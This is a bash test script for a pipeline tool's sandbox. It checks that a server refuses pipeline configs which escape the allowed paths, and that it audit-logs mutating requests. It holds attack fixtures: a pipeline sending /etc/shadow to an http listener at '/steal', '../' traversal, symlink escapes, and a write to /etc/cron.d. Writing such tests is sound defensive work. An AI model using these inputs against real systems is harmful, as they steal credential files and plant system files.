#!/usr/bin/env bash
# test_sandbox.sh — pipelines submitted to a node cannot touch files outside
# its allowed paths (DATA_DIR/files, widened with --allowed-paths), through
# the real `wire serve` and its HTTP API:
#   - the attacks of issue 13: a file sink outside the data directory, a file
#     source on /etc/shadow with an http sink to a listener: 400 naming the
#     option, nothing created, nothing sent; `../../etc/x`, an absolute path
#     outside, a symlink escaping the roots: 400; PUT (update) alike;
#   - inside DATA_DIR/files and inside --allowed-paths: 201, and it runs;
#   - checked again at open: a directory swapped for a symlink out after the
#     create makes the pipeline fail at its next open, and nothing is written
#     outside;
#   - `wire run` of a local file is the user's own process: unrestricted;
#   - the audit log: one structured line per mutating request (create,
#     update, pause, KV writes, node removal) with its subject and outcome.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/cluster_lib.sh"
. "$(dirname "$0")/pipeline_lib.sh"
cd "$TMP" || exit 1

section sb
mkdir -p "$TMP/more"
C_ALLOWED=$TMP/more # DATA_DIR/files and this, not the rest of $TMP
check "a node with --allowed-paths $TMP/more" cluster_join 1
FILES=$TMP/sb/n1/files
check "the default root DATA_DIR/files exists" test -d "$FILES"
R_CURL=(-H 'Content-Type: application/yaml')

body_has() { grep -qF -- "$1" <<<"$R_BODY"; }
names_option() { body_has "option 'path'" && body_has "outside the allowed paths" && is_json_error; }
# refused DESCRIPTION YAML_FILE: 400, naming the option, with a JSON error
refused() {
    req POST n1 /v1/pipelines "@$2"
    check_eq "$1: 400" 400 "$R_CODE"
    check "$1: the JSON error names the option and the allowed paths" names_option
}

# ---- a file sink outside the data directory ---------------------------------------
cat >a1.yaml <<EOF
name: a1
source: {type: generate, config: {count: 10}}
sink: {type: file, config: {path: $TMP/evil/x.jsonl}}
EOF
refused "file sink outside the roots" a1.yaml
check "  and nothing was created" test ! -e "$TMP/evil"

# ---- a file source on /etc/shadow, to an http sink ----------------------------------
LISTEN=$(free_port)
python3 -c '
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        n = int(self.headers.get("Content-Length", 0))
        open(sys.argv[2], "ab").write(self.rfile.read(n))
        self.send_response(200); self.end_headers()
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()' \
    "$LISTEN" "$TMP/stolen" &
T_PIDS+=("$!")
cat >a2.yaml <<EOF
name: a2
source: {type: file, config: {path: /etc/shadow, format: lines}}
sink: {type: http, config: {url: "http://127.0.0.1:$LISTEN/steal"}}
EOF
refused "file source on /etc/shadow" a2.yaml
check "  and nothing was sent" test ! -e "$TMP/stolen"

# ---- .., absolute, symlinks ------------------------------------------------------------
cat >a3.yaml <<EOF
name: a3
source: {type: generate, config: {count: 10}}
sink: {type: file, config: {path: "$FILES/../../etc/x"}}
EOF
refused "a path that climbs out with .." a3.yaml
cat >a4.yaml <<EOF
name: a4
source: {type: generate, config: {count: 10}}
sink: {type: file, config: {path: ../../etc/x}}
EOF
refused "a relative ../../etc/x" a4.yaml
ln -s /etc "$FILES/etc"
cat >a5.yaml <<EOF
name: a5
source: {type: file, config: {path: $FILES/etc/passwd}}
sink: {type: blackhole}
EOF
refused "a symlink in the root that leads out" a5.yaml
check "  named as such" body_has "through a symlink"
cat >a6.yaml <<EOF
name: a6
source: {type: generate, config: {count: 10}}
sink: {type: file, config: {path: $TMP/evil/x.jsonl}}
dlq: {type: file, config: {path: $TMP/evil/dlq.jsonl}}
EOF
req POST n1 /v1/pipelines "@a6.yaml"
check_eq "a dead-letter sink outside too: 400" 400 "$R_CODE"
check "  both named" eval 'body_has "dlq '"'file'"'" && body_has "sink '"'file'"'"'

# ---- inside: DATA_DIR/files and --allowed-paths --------------------------------------
cat >in1.yaml <<EOF
name: in1
source: {type: generate, config: {count: 50}}
sink: {type: file, config: {path: $FILES/out/in1.jsonl}}
EOF
req POST n1 /v1/pipelines "@in1.yaml"
check_eq "a sink inside DATA_DIR/files: 201" 201 "$R_CODE"
check "  it runs and writes there" wait_until 20 has_lines "$FILES/out/in1.jsonl" 50
cat >in2.yaml <<EOF
name: in2
source: {type: generate, config: {count: 50}}
sink: {type: file, config: {path: "$TMP/more/deep/part-{{instance}}.jsonl"}}
EOF
req POST n1 /v1/pipelines "@in2.yaml"
check_eq "a sink inside --allowed-paths (templated): 201" 201 "$R_CODE"
check "  it runs and writes there" wait_until 20 has_lines "$TMP/more/deep/part-0.jsonl" 50
sed 's|path: .*}}|path: /etc/cron.d/x}}|' in1.yaml >in1-bad.yaml
req PUT n1 /v1/pipelines/in1 "@in1-bad.yaml"
check_eq "an update (PUT) to a path outside: 400" 400 "$R_CODE"

# ---- checked again at open: a symlink swapped in after the create --------------------
mkdir -p "$FILES/late" "$TMP/evil2"
cat >late.yaml <<EOF
name: late
source: {type: generate, config: {rate: 200, template: '{"n": {{seq}}}'}}
sink: {type: file, config: {path: $FILES/late/x.jsonl}}
checkpoint: {interval: 100ms}
EOF
req POST n1 /v1/pipelines "@late.yaml"
check_eq "late: created (the directory is real)" 201 "$R_CODE"
check "late: writes" wait_until 20 has_lines "$FILES/late/x.jsonl" 20
req POST n1 /v1/pipelines/late/pause
check "late: paused" wait_until 20 state_is n1 late paused
rm -rf "$FILES/late"
ln -s "$TMP/evil2" "$FILES/late"
req POST n1 /v1/pipelines/late/resume
check "late: resumed into the symlink, it fails" wait_until 20 state_is n1 late failed
late_error() { pfield n1 late error | grep -q 'outside the allowed paths'; }
check "late: its error says why" late_error
check "late: nothing was written outside" test -z "$(ls -A "$TMP/evil2")"

# ---- the audit log: one line per mutating request, none for reads -------------------
R_CURL=()
req PUT n1 /v1/kv/audit-key "v1"
req DELETE n1 /v1/kv/audit-key
req DELETE n1 /remove '{"id": "nobody"}'
req GET n1 /v1/pipelines/in1
audit_has() { # audit_has PYTHON_CONDITION: some audit line of the node's log satisfies it
    python3 - "${C_LOG[n1]}" "$1" <<'EOF'
import json, sys
lines = [json.loads(l.split(" audit ", 1)[1]) for l in open(sys.argv[1]) if " audit {" in l]
sys.exit(0 if any(eval(sys.argv[2], {}, {"a": a}) for a in lines) else 1)
EOF
}
check "audit: a create, with the pipeline's name, 201 ok" audit_has \
    'a["method"] == "POST" and a["path"] == "/v1/pipelines" and a.get("pipeline") == "in1" and a["status"] == 201 and a["outcome"] == "ok"'
check "audit: a refused create, 400 refused" audit_has \
    'a["path"] == "/v1/pipelines" and a["status"] == 400 and a["outcome"] == "refused"'
check "audit: the refused update names its pipeline" audit_has \
    'a["method"] == "PUT" and a.get("pipeline") == "in1" and a["status"] == 400'
check "audit: pause and resume" audit_has 'a["path"] == "/v1/pipelines/late/pause" and a.get("pipeline") == "late"'
check "audit: KV writes with their key" audit_has \
    'a["method"] == "DELETE" and a.get("key") == "audit-key" and a["outcome"] == "ok"'
check "audit: a node removal with the node it names" audit_has 'a["path"] == "/remove" and a.get("node") == "nobody"'
check "audit: time, token and role fields (null until --auth)" audit_has \
    '"time" in a and a["token"] is None and a["role"] is None'
check "audit: no line for reads" bash -c "! grep ' audit {' '${C_LOG[n1]}' | grep -q '\"method\":\"GET\"'"

# ---- wire run of a local file: unrestricted ---------------------------------------------
cat >local.yaml <<EOF
name: local
source: {type: generate, config: {count: 5}}
sink: {type: file, config: {path: $TMP/anywhere/local.jsonl}}
EOF
"$WIRE" run --data-dir localdata local.yaml >local.log 2>&1
check "wire run writes where its file says (no sandbox)" test "$(lines "$TMP/anywhere/local.jsonl")" = 5
check "the node's log is free of sanitizer reports" logs_clean
finish
